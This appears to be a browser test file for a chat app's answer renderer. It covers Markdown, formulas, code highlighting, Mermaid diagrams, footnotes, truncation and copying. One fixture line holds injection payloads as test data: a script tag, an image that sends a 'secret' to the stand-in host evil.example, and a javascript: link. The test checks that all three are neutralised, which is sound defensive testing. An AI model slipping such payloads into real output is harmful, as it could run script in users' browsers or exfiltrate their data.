// What an answer may hold, as the page shows it: code in colours, formulas, diagrams, footnotes, and nothing that a
// model could make the page load.
import { expect, it } from 'vitest';
import { findFaults } from '../support/browser/axe.ts';
import { describeInBrowser, openAsOwner, type OwnersApp } from '../support/browser/browser.ts';
import { storeChat } from '../support/browser/chat-page.ts';

const FENCE = '```';
const ANSWER = String.raw`# Report

See [1], arr[0] and [the docs](https://docs.example/x "Docs"), or [by reference][docs]. It costs $5 and $10.[^price]

| Left | Right |
|:-----|------:|
| one<br>two | **3** |

1. first
2. second
   - [x] done
   - [ ] open

Inline \(a^2 + b^2 = c^2\) and $e^{i\pi} = -1$:

$$
\int_0^1 x^2 \, dx
+ \frac{1}{2}
$$

Broken: $\frac{1$ stays.

${FENCE}ts
// A greeting
const greet = (name: string): string => ${'`Hello ${name}`'};
console.log(greet('Ada'), 42);
${FENCE}

${FENCE}python
def total(rows: list[dict]) -> float:
    """Sum of all rows."""
    return sum(r["price"] * 1.19 for r in rows if r is not None)
${FENCE}

${FENCE}mermaid
flowchart LR
  A[Ask] --> B{Known?}
  B -- yes --> C[Answer]
  B -- no --> D[Search]
${FENCE}

${FENCE}mermaid
flowchart LR
  A[Ask --> 
${FENCE}

<script>window.stolen = 1</script> ![logo](https://evil.example/pixel.png?q=secret) [run](javascript:alert(1))

[^price]: Before *tax*.

[docs]: https://docs.example/y
`;

const DIAGRAMS = {
  sequence: 'sequenceDiagram\n  Ada->>Bob: Hello\n  Bob-->>Ada: Hi',
  class: 'classDiagram\n  Animal <|-- Duck\n  Animal : +int age',
  state: 'stateDiagram-v2\n  [*] --> Still\n  Still --> [*]',
  er: 'erDiagram\n  CUSTOMER ||--o{ ORDER : places',
  gantt: 'gantt\n  dateFormat YYYY-MM-DD\n  section A\n  One :a1, 2026-01-01, 3d',
  pie: 'pie title Pets\n  "Dogs" : 3\n  "Cats" : 2',
  mindmap: 'mindmap\n  root\n    one\n    two',
  git: 'gitGraph\n  commit\n  branch b\n  commit',
} as const;

describeInBrowser('an answer', () => {
  let { app, owner, organization, page } = {} as OwnersApp;
  const requests: string[] = [];
  const complaints: string[] = [];
  openAsOwner('Rita Reader', 'Readers', async (at) => {
    ({ app, owner, organization, page } = at);
    page.on('request', (request) => requests.push(request.url()));
    page.on('console', (message) => {
      if (message.type() === 'error' || message.type() === 'warning') complaints.push(message.text());
    });
  });

  async function open(text: string, reasoning?: { text: string; durationMs: number }): Promise<void> {
    const parts = [...(reasoning === undefined ? [] : [{ type: 'reasoning', ...reasoning }]), { type: 'text', text }];
    const thread = await storeChat({ app, owner, organization, page }, { answer: parts });
    await page.goto(`/chat/${thread}`);
    await page.locator('.markdown').waitFor();
  }

  it('has tables, tasks, footnotes, formulas, colours and diagrams, and loads nothing of others', async () => {
    await open(ANSWER, { text: 'First **this**, then that.', durationMs: 4_200 });
    const answer = page.locator('.answer');
    await answer.getByRole('img', { name: /Diagram: flowchart/ }).waitFor();
    await answer.locator('.katex-display .katex-html').waitFor();
    await answer.locator('.hljs-keyword').first().waitFor();
    await expect
      .poll(() => answer.getByRole('link', { name: 'the docs' }).getAttribute('href'))
      .toBe('https://docs.example/x');
    await expect
      .poll(() => answer.getByRole('link', { name: 'by reference' }).getAttribute('href'))
      .toBe('https://docs.example/y');
    await expect.poll(() => answer.getByText('See [1], arr[0] and').count()).toBe(1);
    await expect.poll(() => answer.getByText('It costs $5 and $10.').count()).toBe(1);
    await expect.poll(() => answer.locator('.katex').count()).toBe(3);
    await expect.poll(() => answer.getByText(String.raw`$\frac{1$`).count()).toBe(1);
    await expect.poll(() => answer.getByRole('checkbox').count()).toBe(2);
    await expect.poll(() => answer.getByRole('cell', { name: 'one two' }).locator('br').count()).toBe(1);
    await expect.poll(() => answer.getByText('<script>window.stolen = 1</script>').count()).toBe(1);
    await expect.poll(() => answer.getByRole('link', { name: 'logo' }).getAttribute('rel')).toContain('noopener');
    await expect.poll(() => answer.getByRole('link', { name: 'run' }).count()).toBe(0);
    // The second diagram has an error: its source is shown.
    await expect.poll(() => answer.getByText('A[Ask -->').count()).toBe(1);
    const foreign = requests.filter((url) => !/^(?:data|blob):/.test(url) && !url.startsWith(app.url));
    expect(foreign).toEqual([]);
    expect(complaints).toEqual([]);

    await answer.getByRole('link', { name: 'Footnote 1', exact: true }).click();
    await expect.poll(() => page.evaluate<string>('document.activeElement.textContent')).toContain('Before tax.');
    await answer.getByRole('link', { name: 'Back to the text of footnote 1' }).click();
    await expect.poll(() => page.evaluate<string>('document.activeElement.textContent')).toBe('1');

    await answer.getByRole('button', { name: 'Show source' }).click();
    await answer.getByText('A[Ask] --> B{Known?}').waitFor();
    await answer.getByRole('button', { name: 'Show diagram' }).click();
    await answer.getByText('Thought for 4 s').click();
    await answer.getByText('then that.').waitFor();
    expect(await findFaults(page, 'an answer')).toEqual([]);
  });

  it('draws a formula once its fonts are there, the usual ones and those of rarer signs', async () => {
    const gates = Object.fromEntries(
      ['Main-Regular', 'AMS-Regular'].map((font) => [font, Promise.withResolvers<void>()] as const),
    );
    const asked: string[] = [];
    await page.route(/KaTeX_/, async (route) => {
      const font = /KaTeX_(\w+-\w+)/.exec(route.request().url())?.[1] ?? '';
      asked.push(font);
      await gates[font]?.promise;
      await route.continue();
    });
    try {
      await open(String.raw`All of \(x \in \mathbb{R}\).`);
      await expect.poll(() => asked).toContain('Main-Regular');
      expect(asked).not.toContain('AMS-Regular');
      await expect.poll(() => page.locator('.katex').count()).toBe(0);
      gates['Main-Regular']?.resolve();
      await expect.poll(() => asked).toContain('AMS-Regular');
      await page.locator('.katex-html').waitFor({ state: 'hidden' });
      gates['AMS-Regular']?.resolve();
      await page.locator('.katex-html').waitFor();
      await expect.poll(() => page.evaluate("document.fonts.check('1em KaTeX_AMS')")).toBe(true);
    } finally {
      await page.unroute(/KaTeX_/);
    }
  });

  it('is shown by its beginning if it is very long, and whole on request', async () => {
    await open(`${'One of many words. '.repeat(8_000)}\n\nThe very end.`);
    const answer = page.locator('.answer');
    await answer.getByText('Only the beginning of this long message is shown.').waitFor();
    await expect.poll(() => answer.getByRole('button', { name: 'Copy', exact: true }).count()).toBe(0);
    await answer.getByRole('button', { name: /^Show all \(/ }).click();
    await answer.getByText('The very end.').waitFor();
    await answer.getByRole('button', { name: 'Copy', exact: true }).waitFor();
    await expect.poll(() => answer.getByText('Only the beginning').count()).toBe(0);
  });

  it('draws every common kind of diagram under the content security policy', async () => {
    await open(
      Object.values(DIAGRAMS)
        .map((source) => `${FENCE}mermaid\n${source}\n${FENCE}`)
        .join('\n\n'),
    );
    await expect.poll(() => page.locator('.diagram img').count()).toBe(Object.keys(DIAGRAMS).length);
    const widths = await page.evaluate<number[]>(
      "[...document.querySelectorAll('.diagram img')].map((image) => image.naturalWidth)",
    );
    expect(widths.filter((width) => width < 40)).toEqual([]);
    expect(complaints).toEqual([]);
  });

  it('is copied as Markdown or as text', async () => {
    await owner.context.grantPermissions(['clipboard-read', 'clipboard-write']);
    await open('**Bold** and [docs](https://docs.example/).\n\n1. one\n2. two');
    const copied = (): Promise<string> => page.evaluate('navigator.clipboard.readText()');
    await page.getByRole('button', { name: 'More ways to copy' }).click();
    await page.getByRole('menuitem', { name: 'Copy as text' }).click();
    await expect.poll(copied).toBe('Bold and docs (https://docs.example/).\n\n1. one\n2. two');
    await page.getByRole('button', { name: 'More ways to copy' }).click();
    await page.getByRole('menuitem', { name: 'Copy as Markdown' }).click();
    await expect.poll(copied).toBe('**Bold** and [docs](https://docs.example/).\n\n1. one\n2. two');
  });
});
